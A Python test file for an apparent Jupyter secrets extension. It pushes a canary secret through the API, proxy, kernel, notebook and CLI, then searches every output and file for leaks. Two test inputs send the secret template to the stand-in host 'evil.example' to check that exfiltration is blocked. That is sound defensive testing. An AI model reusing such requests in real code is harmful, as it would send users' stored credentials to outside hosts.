"""The canary hunt: drive every surface with stored canaries, then search everything.

Surfaces: the REST API (success and errors), the CLI, a real kernel (calls, refusals,
tracebacks, the admin panel's widget state), the proxy against an upstream that echoes
what it gets, and notebooks saved with a pasted value. Searched: every response, every log
line, every kernel message, every file under the test's folders (server root, data,
config, runtime, store), and the SQLite file's bytes, for the raw, URL-encoded and base64
forms. The panel in a real browser is hunted in tests/browser/ (DOM, websocket frames,
saved notebook).
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import textwrap
from pathlib import Path

import httpx
import nbformat

from .helpers import JUPYTER, assert_no_canary, canary_forms
from .kernels import Kernel


def find(canary: str, data: bytes) -> bool:
    text = data.decode("latin-1")
    return any(form in text for form in canary_forms(canary))


async def test_no_surface_leaks_a_stored_value(
    server_log, master_key, upstream, api, jp_fetch, jp_serverapp, jp_base_url, http_server,
    responses, canary, tmp_path: Path, store_path: Path, jp_root_dir: Path,
):
    host = f"127.0.0.1:{upstream.port}"
    # -- REST: create, replace, batch, connection with its own key, errors ---------------------
    assert (await api("POST", "secrets", body={"name": "API_KEY", "value": canary,
                                               "allowed_hosts": [host]}))[0] == 201
    assert (await api("PUT", "secrets", "API_KEY", body={"value": canary}))[0] == 200
    await api("PUT", "secrets", body={"secrets": [{"key": "BATCHED", "value": canary}]})
    await api("POST", "connections", body={"name": "up", "base_url": upstream.url,
                                           "value": canary, "auth": {"scheme": "header",
                                                                     "header": "x-api-key"}})
    await api("POST", "secrets", body={"name": "API_KEY", "value": canary})
    await api("POST", "secrets", body={"name": "bad name", "value": canary, "extra": canary})
    await api("POST", "secrets", raw='{"name": "X", "value": "' + canary)
    for kind in ("user", "system", "all"):
        await api("GET", "secrets", params={"kind": kind})
    await api("GET", "connections")

    # -- proxy and ad-hoc requests against an echoing upstream ---------------------------------
    base = f"http://127.0.0.1:{jp_serverapp.port}{jp_base_url}api/secrets/v1"
    auth = {"Authorization": f"token {jp_serverapp.identity_provider.token}"}

    def via_proxy() -> list[httpx.Response]:
        with httpx.Client(timeout=30) as client:
            return [
                client.get(f"{base}/proxy/up/echo/x", headers=auth),
                client.get(f"{base}/proxy/up/echo-header", params={"name": "x-api-key"},
                           headers=auth),
                client.get(f"{base}/proxy/up/status/401", headers=auth),
                client.post(f"{base}/request", headers=auth, json={
                    "url": f"{upstream.url}/echo/q", "params": {"k": "{{secrets.API_KEY}}"},
                    "json": {"k": "{{secrets.API_KEY}}"}}),
                client.post(f"{base}/request", headers=auth, json={
                    "url": "https://evil.example/", "headers": {"X": "{{secrets.API_KEY}}"}}),
            ]

    for response in await asyncio.to_thread(via_proxy):
        responses.append(response.text)
        responses.append(json.dumps(dict(response.headers)))

    # -- a real kernel: calls, refusals, tracebacks ---------------------------------------------
    started = await jp_fetch("api", "kernels", method="POST", body="{}")
    kernel = await Kernel(jp_serverapp, json.loads(started.body)["id"]).start()
    try:
        await kernel.run(textwrap.dedent(f"""
            import jupyter_secrets as js
            print(js.names(), js.secrets())
            up = js.connection("up")
            print(up.get("/echo/k").text)
            print(js.request("GET", "{upstream.url}/echo/r",
                             headers={{"A": "{{{{secrets.API_KEY}}}}"}}).text)
        """))
        await kernel.run("js.get('API_KEY')")
        await kernel.run("js.request('GET', 'https://evil.example/?k={{secrets.API_KEY}}')")
        await kernel.run("raise RuntimeError(str(js.connection('up').get('/echo/t').json()))")
        # The panel in this kernel (no browser here: its widget state travels as comm
        # messages, which are kernel messages searched below).
        panel = await kernel.run("panel = js.SecretsPanel()\npanel")
        assert panel.error is None, panel.text
        assert "API_KEY" in panel.raw, "the panel's table (widget state) lists the names"
    finally:
        kernel.stop()
    kernel_messages = [run.raw for run in kernel.runs]
    assert any("[REDACTED:" in m for m in kernel_messages), "the echo really came back"

    # -- a notebook with a pasted value, saved through Jupyter ---------------------------------
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(f"KEY = '{canary}'", outputs=[
        nbformat.v4.new_output("stream", name="stdout", text=canary)])]
    model = {"type": "notebook", "format": "json", "content": json.loads(nbformat.writes(nb))}
    await jp_fetch("api", "contents", "pasted.ipynb", method="PUT", body=json.dumps(model))

    # -- the CLI on the same store ---------------------------------------------------------------
    env = {k: v for k, v in os.environ.items() if not k.startswith("JUPYTER")}
    env.update(JUPYTER_SECRETS_KEY=master_key, JUPYTER_SECRETS_STORE_URL=f"sqlite:///{store_path}",
               JUPYTER_CONFIG_DIR=str(tmp_path / "cli-config"),
               JUPYTER_DATA_DIR=str(tmp_path / "cli-data"))
    cli_outputs: list[str] = []
    for args, stdin in ((["list", "--all", "--json"], ""), (["set", "CLI_KEY"], canary),
                        (["set", "9BAD"], canary), (["scan", str(jp_root_dir)], "")):
        result = await asyncio.to_thread(
            subprocess.run, [JUPYTER, "secrets", *args], input=stdin, env=env,
            capture_output=True, text=True, timeout=60)
        cli_outputs += [result.stdout, result.stderr]

    # -- the hunt ----------------------------------------------------------------------------------
    assert_no_canary(canary, *responses, where="HTTP response")
    assert_no_canary(canary, *kernel_messages, where="kernel message")
    assert_no_canary(canary, *cli_outputs, where="CLI output")
    for line in server_log().splitlines():
        assert_no_canary(canary, line, where=f"server log line {line[:300]!r}")
    leaked = [str(p) for p in tmp_path.rglob("*") if p.is_file() and find(canary, p.read_bytes())]
    assert leaked == [], f"canary found in files: {leaked}"
    assert store_path.stat().st_size > 0
    assert "[REDACTED:API_KEY]" in (jp_root_dir / "pasted.ipynb").read_text()
